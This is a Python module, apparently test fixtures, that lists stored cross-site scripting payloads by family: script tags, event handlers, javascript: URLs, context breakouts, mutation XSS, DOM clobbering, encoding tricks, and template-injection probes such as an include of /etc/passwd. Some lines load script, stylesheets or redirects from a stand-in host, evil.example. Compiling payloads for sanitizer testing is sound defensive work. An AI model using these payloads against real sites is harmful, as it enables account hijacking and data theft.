"""Payloads of stored cross-site scripting, by the family of what they break out of; each would set `window.hurt` or open a dialog.

The families are those of the public cheat sheets (OWASP's filter evasion, PortSwigger's by event and tag, the polyglots, mutation XSS); the words
are our own.
"""

from __future__ import annotations

HIT = "window.hurt=1,alert(1)"

SCRIPTS = (
    f"<script>{HIT}</script>", f"<ScRiPt >{HIT}</sCrIpT >", f"<script\n>{HIT}</script\n>", f"<script/x>{HIT}</script>", f"<<script>{HIT}//<</script>",
    "<script src=//evil.example/x.js></script>", "<script src='data:text/javascript,window.hurt=1'></script>", f"<script type=module>{HIT}</script>",
    f"<svg><script>{HIT}</script></svg>", f"<svg><script href='data:,{HIT}' /></svg>",
)  # fmt: skip
HANDLERS = (
    f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'>", f'<img/src="x"/onerror="{HIT}">', f"<svg onload={HIT}>", f"<svg/onload={HIT}//",
    f"<body onload={HIT}>", f"<details open ontoggle={HIT}>", f"<input autofocus onfocus={HIT}>", f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>", f"<marquee onstart={HIT}>", f"<select autofocus onfocus={HIT}>", f"<iframe onload={HIT}></iframe>",
    f"<object data=x onerror={HIT}>", f"<style onload={HIT}></style>", f"<xss style='animation-name:x' onanimationstart={HIT}></xss>",
    f"<a id=x tabindex=1 onfocus={HIT}></a>", f"<button popovertarget=x>a</button><p popover id=x onbeforetoggle={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", "<img src=x ONERROR=&#119;indow.hurt=1>",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{HIT}", f"<a href=javascript:{HIT}>x</a>", f"<a href='java\tscript:{HIT}'>x</a>", f"<a href=' &#14; javascript:{HIT}'>x</a>",
    f"<iframe src=javascript:{HIT}></iframe>", f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<object data=javascript:{HIT}></object>", f"<embed src=javascript:{HIT}>", f"<math href=javascript:{HIT}>x</math>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=20>x</text></a></svg>", f"<isindex formaction=javascript:{HIT} type=submit>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "data:text/html,<script>window.hurt=1</script>", "//evil.example/%2f..",
)  # fmt: skip
BREAKOUTS = (
    f'"><script>{HIT}</script>', f"'><img src=x onerror={HIT}>", f"`><img src=x onerror={HIT}>", f'" autofocus onfocus="{HIT}', f"' onmouseover='{HIT}",
    f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</script><script>{HIT}</script>", f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>", f"</option></select><img src=x onerror={HIT}>", f"</noscript><img src=x onerror={HIT}>", f"</style><img src=x onerror={HIT}>",
    f"';{HIT};//", f'";{HIT};//', f"\\';{HIT};//", f"${{{HIT}}}", f"\u2028{HIT}\u2029", f"*/{HIT}/*",
)  # fmt: skip
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">', f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HIT} src>'>",
    f"<template><script>{HIT}</script></template>", f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{{constructor.constructor('window.hurt=1')()}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${7*7}",
)
CLOBBERING = (
    "<form id=content></form>", "<input name=csrf value=x>", "<a id=body data-csrf=x>", "<img name=getElementById>", "<p data-review data-key=create data-part>x</p>",
    "<main id=content><h1>Log in again</h1></main>",
)  # fmt: skip
ENCODINGS = (
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"%3Cscript%3E{HIT}%3C/script%3E", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"＜script＞{HIT}＜/script＞", f"\u202e>tpircs/<{HIT}>tpircs<", f"<scr\u200bipt>{HIT}</script>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={HIT} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={HIT}//>\\x3e",
)  # fmt: skip
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *BREAKOUTS, *MUTATIONS, *TEMPLATES, *CLOBBERING, *ENCODINGS)
